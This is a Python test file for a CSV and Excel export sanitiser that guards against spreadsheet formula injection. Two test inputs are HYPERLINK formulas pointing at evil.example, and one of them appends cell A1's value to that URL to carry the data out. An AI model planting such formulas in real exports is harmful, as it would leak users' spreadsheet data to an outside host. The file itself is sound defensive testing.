import datetime as dt
from decimal import Decimal

import pytest

from common.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_formula_starts_are_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["张三与李四借贷纠纷", "138****5678", "", " =1", 7, -3, Decimal("-1.5"), None]
)
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_row():
    day = dt.date(2026, 12, 1)
    assert safe_row(["=1", day, -4, "ok"]) == ["'=1", day, -4, "ok"]


def test_csv_lines_quote_every_cell():
    from common.spreadsheets import CsvLines

    line = CsvLines().writerow(['=HYPERLINK("http://evil.example/","x")', "张三", -4, "@a"])
    assert line == '"\'=HYPERLINK(""http://evil.example/"",""x"")",张三,-4,\'@a\r\n'


def test_any_new_sheet_of_the_safe_workbook_quotes_text_and_keeps_numbers():
    import io

    from openpyxl import load_workbook
    from openpyxl.cell import WriteOnlyCell

    from common.spreadsheets import SafeWorkbook

    book = SafeWorkbook()
    sheet = book.create_sheet("新表")
    sheet.freeze_panes = "A2"
    styled = WriteOnlyCell(sheet, value="=1+1")
    styled.number_format = "@"
    sheet.append(["=1+1", styled, -3, dt.datetime(2026, 11, 18, 10, 0)])
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue()))["新表"]
    (cells,) = read.iter_rows()
    assert [(c.data_type, c.value) for c in cells] == [
        ("s", "'=1+1"),
        ("s", "'=1+1"),
        ("n", -3),
        ("d", dt.datetime(2026, 11, 18, 10, 0)),
    ]
    assert read.freeze_panes == "A2"


def test_no_module_writes_a_spreadsheet_around_the_rule():
    """CSV and xlsx are written through CsvLines and SafeWorkbook only (a new export cannot forget)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writer = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter|DictWriter\(")
    offenders = [
        str(path.relative_to(root))
        for app in ("cases", "common", "departments", "integrations", "supervision", "demo", "zongzhi")
        for path in (root / app).rglob("*.py")
        if path.name != "spreadsheets.py" and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
